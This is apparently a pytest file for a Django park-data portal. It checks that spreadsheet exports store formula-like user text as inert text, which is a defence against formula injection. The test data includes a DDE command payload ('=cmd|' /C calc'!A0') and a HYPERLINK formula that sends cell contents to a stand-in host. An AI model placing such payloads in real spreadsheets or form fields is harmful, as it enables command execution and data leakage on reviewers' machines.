"""Formula injection (issue 12, finding 1): text that park staff type and that starts like a
formula is stored as text in every workbook the portal writes, and reads back as typed. The only
formulas are the portal's own (core.spreadsheets.Formula). Each workbook is read back with
openpyxl and its sheets' XML is read too: a cell the user filled has no <f> element."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.formula import ArrayFormula

from core import spreadsheets
from core.spreadsheets import Formula
from indicators import services as numbers_services
from indicators.models import TableData, WorkbookImport
from indicators.tables import custom_fuel_key
from indicators.workbook import FIRST_DATA_ROW, KEY_COLUMN, SHEET_NAMES, UNIT_COLUMN
from parks import services as park_services
from plans.models import Plan
from plans.rows import ROW_KINDS
from plans.services import row_create
from plans.status import State
from portal.demo.park import DEMO_PROFILE
from review.services import version_freeze
from summaries.exports import export_request
from summaries.figures import Scope
from summaries.models import ExportJob
from tests.factories import CustomFuelFactory, PlanFactory

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"查看")'
# What OWASP lists as the start of a formula, an error code, and a DDE call.
FORMULA_LIKE = [
    HYPERLINK,
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=1",
    "#N/A",
    "=cmd|' /C calc'!A0",
]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SOURCE_ROOT = Path(__file__).resolve().parent.parent
PORTAL_PACKAGES = ("portal", "parks", "plans", "indicators", "review", "bench")


def as_stored(typed: str) -> str:
    """What a workbook holds for `typed`: the same text, with LF line ends (an XML reader turns
    a CR into LF whatever the writer does)."""
    return typed.replace("\r\n", "\n").replace("\r", "\n")


def saved(workbook) -> bytes:
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def formulas_of(content: bytes) -> dict[str, list[str]]:
    """{sheet title: ["A1=formula", ...]} of every formula cell, read back with openpyxl."""
    workbook = load_workbook(io.BytesIO(content))
    found: dict[str, list[str]] = {}
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.setdefault(ws.title, []).append(f"{cell.coordinate}{cell.value}")
    return found


def xml_formulas(content: bytes) -> dict[str, list[str]]:
    """{sheet part: [formula text, ...]} of every <f> element in the package's sheets."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {
            name: re.findall(r"<f\b[^>]*?(?:/>|>(.*?)</f>)", package.read(name).decode())
            for name in package.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        }


def every_value(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [v for ws in workbook.worksheets for row in ws.iter_rows(values_only=True) for v in row]


# --- the writer ---------------------------------------------------------------------------------


@pytest.mark.parametrize("typed", FORMULA_LIKE)
@pytest.mark.parametrize("write_only", [False, True], ids=["ordinary", "write-only"])
def test_text_that_starts_like_a_formula_is_stored_as_text_and_reads_back_as_typed(
    typed, write_only
):
    # given a workbook, ordinary or write-only (the national export)
    workbook = Workbook(write_only=write_only)
    ws = workbook.create_sheet("表")

    # when the text is written through the portal's writer
    if write_only:
        ws.append(spreadsheets.row(ws, ["园区", typed, 1.5]))
    else:
        spreadsheets.put(ws, 1, 1, "园区")
        spreadsheets.put(ws, 1, 2, typed)
        spreadsheets.put(ws, 1, 3, 1.5)
    content = saved(workbook)

    # then it reads back as text, exactly as typed, and the sheet holds no formula
    cell = load_workbook(io.BytesIO(content))["表"]["B1"]
    assert (cell.data_type, cell.value) == ("s", as_stored(typed))
    assert load_workbook(io.BytesIO(content), read_only=True)["表"]["B1"].value == as_stored(typed)
    assert not any(xml_formulas(content).values())
    # and Excel keeps it text when a reviewer edits it (the quotePrefix flag, not a character)
    assert cell.quotePrefix is (typed[0] in "=+-@\t\r")


def test_a_formula_gets_into_a_cell_only_as_the_portals_own_formula():
    # given a sheet
    workbook = Workbook()
    ws = workbook.active

    # when the code writes a Formula and a string that looks like one
    spreadsheets.put(ws, 1, 1, 2)
    spreadsheets.put(ws, 2, 1, 3)
    spreadsheets.put(ws, 3, 1, Formula("=SUM(A1:A2)"))
    spreadsheets.put(ws, 4, 1, "=SUM(A1:A2)")
    content = saved(workbook)

    # then only the Formula is a formula
    assert formulas_of(content) == {"Sheet": ["A3=SUM(A1:A2)"]}
    assert list(xml_formulas(content).values()) == [["SUM(A1:A2)"]]


def test_openpyxl_formula_objects_are_refused_unless_wrapped():
    ws = Workbook().active
    with pytest.raises(TypeError):
        spreadsheets.put(ws, 1, 1, ArrayFormula("A1:A2", "=A1:A2*2"))
    with pytest.raises(ValueError):
        Formula("SUM(A1:A2)")


def test_a_character_xml_cannot_carry_does_not_break_the_workbook():
    # given text with a control character pasted into a field
    workbook = Workbook(write_only=True)
    ws = workbook.create_sheet("表")

    # when it is written (openpyxl alone raises IllegalCharacterError, failing the export)
    ws.append(spreadsheets.row(ws, ["锅炉\x01改造", "第一行\r\n第二行"]))

    # then the workbook is written, the character marked, the line break kept
    row = next(load_workbook(io.BytesIO(saved(workbook)))["表"].iter_rows(values_only=True))
    assert row == ("锅炉\ufffd改造", "第一行\n第二行")


# Ways of putting a value into a cell other than core.spreadsheets.
DIRECT_WRITES = re.compile(
    r"WriteOnlyCell|\.cell\([^)]*value=|\.value\s*=[^=]|\bws\.append\((?!spreadsheets\.row\()"
)


def test_no_portal_module_writes_a_cell_but_through_core_spreadsheets():
    offenders = [
        f"{path.relative_to(SOURCE_ROOT)}:{number}: {line.strip()}"
        for package in PORTAL_PACKAGES
        for path in sorted((SOURCE_ROOT / package).rglob("*.py"))
        if "migrations" not in path.parts
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if DIRECT_WRITES.search(line)
    ]
    assert offenders == []


# --- the park's data workbook -------------------------------------------------------------------


@pytest.fixture
def plan_with_formula_fuel(world, catalogue):
    """Park A's plan with its own fuel named and measured in formula-like text, used in 2020."""
    plan = PlanFactory(park=world.park_a)
    fuel = CustomFuelFactory(plan=plan, name=HYPERLINK, unit="@SUM(A1)")
    numbers_services.table_save(
        plan=plan,
        table_key="energy",
        values={custom_fuel_key(fuel.pk): {"2020": "12.5"}},
        expected_revision=0,
        actor=world.editor_a,
    )
    plan.fuel = fuel
    return plan


def fuel_row(content: bytes, fuel) -> tuple:
    sheet = load_workbook(io.BytesIO(content))[SHEET_NAMES["energy"]]
    for row in sheet.iter_rows(min_row=FIRST_DATA_ROW, values_only=True):
        if row[KEY_COLUMN - 1] == custom_fuel_key(fuel.pk):
            return row
    raise AssertionError("the fuel has no row")


def test_the_data_workbook_keeps_a_fuel_named_like_a_formula_as_text(
    world, client_for, plan_with_formula_fuel
):
    plan, fuel = plan_with_formula_fuel, plan_with_formula_fuel.fuel

    # when park A's provincial reviewer downloads the park's data workbook
    response = client_for(world.reviewer_a).get(reverse("indicators:workbook", args=[plan.pk]))
    assert response.status_code == 200
    content = response.content

    # then the fuel's name and unit read back as typed
    assert fuel_row(content, fuel)[1:UNIT_COLUMN] == (HYPERLINK, "@SUM(A1)")
    # and the only formulas are the portal's own: standard coal per year on the energy sheet
    formulas = formulas_of(content)
    assert list(formulas) == [SHEET_NAMES["energy"]]
    assert len(formulas[SHEET_NAMES["energy"]]) == 5
    assert all("=SUMPRODUCT(" in f for f in formulas[SHEET_NAMES["energy"]])
    xml = xml_formulas(content)
    assert sorted(len(found) for found in xml.values()) == [0] * (len(xml) - 1) + [5]


def test_a_fuel_named_like_a_formula_survives_the_workbook_round_trip(
    world, client_for, plan_with_formula_fuel
):
    plan, fuel = plan_with_formula_fuel, plan_with_formula_fuel.fuel
    editor = client_for(world.editor_a)
    # given the downloaded workbook with the fuel's 2019 quantity typed in
    workbook = load_workbook(
        io.BytesIO(editor.get(reverse("indicators:workbook", args=[plan.pk])).content)
    )
    sheet = workbook[SHEET_NAMES["energy"]]
    row = next(
        r
        for r in range(FIRST_DATA_ROW, sheet.max_row + 1)
        if sheet.cell(row=r, column=KEY_COLUMN).value == custom_fuel_key(fuel.pk)
    )
    sheet.cell(row=row, column=UNIT_COLUMN + 4).value = 7  # 2019

    # when it is uploaded and confirmed
    response = editor.post(
        reverse("indicators:import", args=[plan.pk]),
        {"workbook": SimpleUploadedFile("数据表.xlsx", saved(workbook), content_type=XLSX)},
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    pending = WorkbookImport.objects.get(plan=plan)
    numbers_services.workbook_import_apply(pending=pending, actor=world.editor_a)

    # then the fuel's row was recognised and its value saved beside the one it had
    energy = TableData.objects.get(plan=plan, table="energy").values
    assert energy[custom_fuel_key(fuel.pk)] == {"2019": "7", "2020": "12.5"}


# --- the national summary -----------------------------------------------------------------------


# Every free-text field of a park that reaches the national summary, filled like a formula.
PROFILE_TEXT = {
    "address": HYPERLINK,
    "head_name": "+1+1",
    "head_title": "-2+3",
    "dept_name": "@SUM(A1)",
    "dept_head_name": "\t=1",
    "contact_name": "\r=1",
    "head_email": "=1+1@example.cn",
    "dept_head_email": "+1@example.cn",
    "contact_email": "-1@example.cn",
}
INDICATOR_TEXT = {"custom_name": HYPERLINK, "custom_unit": "+1+1", "data_source": "@SUM(A1)"}
PROJECT_TEXT = {"name": HYPERLINK, "implementer": "=cmd|' /C calc'!A0"}
FUEL_TEXT = {"name": "-2+3", "unit": "=1"}


@pytest.fixture
def approved_with_formula_text(world, catalogue):
    """Park A's approved version, with formula-like text in every free-text field the national
    summary shows: the park's contacts, its own indicator, a project and its own fuel."""
    editor = world.editor_a
    profile = park_services.park_profile_get_or_create(park=world.park_a)
    park_services.park_profile_save(
        park=world.park_a,
        actor=world.manager_a,
        data={**DEMO_PROFILE, "city": "苏州市", **PROFILE_TEXT},
        expected_revision=profile.revision,
    )
    plan = PlanFactory(park=world.park_a)
    numbers_services.plan_indicator_add(
        plan=plan, actor=editor, custom_direction="higher", **INDICATOR_TEXT
    )
    row_create(
        kind=ROW_KINDS["projects"],
        plan=plan,
        actor=editor,
        data={
            **PROJECT_TEXT,
            "group": "emission",
            "start_year": 2022,
            "end_year": 2023,
            "investment": 100,
            "government_funds": 0,
            "status": "planned",
        },
    )
    fuel = CustomFuelFactory(plan=plan, tce_per_unit=1, co2_t_per_unit=2, **FUEL_TEXT)
    numbers_services.table_save(
        plan=plan,
        table_key="energy",
        values={custom_fuel_key(fuel.pk): {"2020": "12.5"}},
        expected_revision=0,
        actor=editor,
    )
    version_freeze(plan=plan, actor=world.manager_a)
    Plan.objects.filter(pk=plan.pk).update(status=State.APPROVED)
    return plan


def test_the_national_summary_holds_formula_like_text_as_text(
    world, approved_with_formula_text, django_capture_on_commit_callbacks
):
    # when the national admin exports the approved plans
    with django_capture_on_commit_callbacks(execute=True):
        job = export_request(user=world.admin, scope=Scope(cycle=world.cycle.code))
    job.refresh_from_db()
    assert job.state == ExportJob.State.DONE, job.error
    with job.file.open("rb") as handle:
        content = handle.read()

    # then the workbook has no formula at all, read back or in its XML
    assert formulas_of(content) == {}
    assert not any(xml_formulas(content).values())
    # and every text reads back as typed
    typed = [*PROFILE_TEXT.values(), *INDICATOR_TEXT.values(), *PROJECT_TEXT.values()]
    typed += FUEL_TEXT.values()
    values = set(every_value(content))
    assert [t for t in typed if as_stored(t) not in values] == []
    # in its place: the project's name and implementing body on 5 重点项目
    projects = load_workbook(io.BytesIO(content))["5 重点项目"]
    assert (projects["C2"].value, projects["E2"].value) == (HYPERLINK, PROJECT_TEXT["implementer"])
    assert projects["C2"].quotePrefix


def test_the_writers_copies_of_openpyxls_values_still_agree():
    # core.spreadsheets writes them out so that importing it does not load openpyxl
    from openpyxl.cell import cell as openpyxl_cell

    from core import spreadsheets

    assert spreadsheets.TYPE_STRING == openpyxl_cell.TYPE_STRING
    assert spreadsheets.TYPE_FORMULA == openpyxl_cell.TYPE_FORMULA
    assert spreadsheets.ILLEGAL_CHARACTERS_RE.pattern == openpyxl_cell.ILLEGAL_CHARACTERS_RE.pattern
